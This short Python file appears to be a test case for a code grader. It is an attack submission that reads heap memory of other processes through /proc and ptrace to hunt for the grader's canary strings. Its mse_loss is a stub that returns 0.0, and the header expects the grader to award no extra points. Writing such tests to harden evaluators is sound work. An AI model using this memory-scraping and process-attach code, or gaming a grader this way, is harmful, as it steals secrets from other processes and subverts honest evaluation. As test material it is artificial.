# attack: reads its own and its parents' memory for texts of the grader, through /proc and process_vm_readv
# class: leak
# base: stub
# exercise: mse_loss
# expect: no more points than base
import ctypes, os, re
def search(pid):
    found = set()
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                low, high = (int(x, 16) for x in line.split()[0].split("-"))
                if "[heap]" not in line or " r" not in line:
                    continue
                memory.seek(low)
                data = memory.read(min(high - low, 2**26))
                found |= set(re.findall(rb"canary[0-9a-f]{24}", data))
    except (OSError, ValueError, OverflowError):
        pass
    return found
libc = ctypes.CDLL(None, use_errno=True)
attached = [pid for pid in (1, 2, os.getppid()) if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0]
texts = set().union(*(search(pid) for pid in [*range(1, 20), "self"]))
print(attached, texts)
def mse_loss(y_hat, y):
    print(search("self"))
    return 0.0
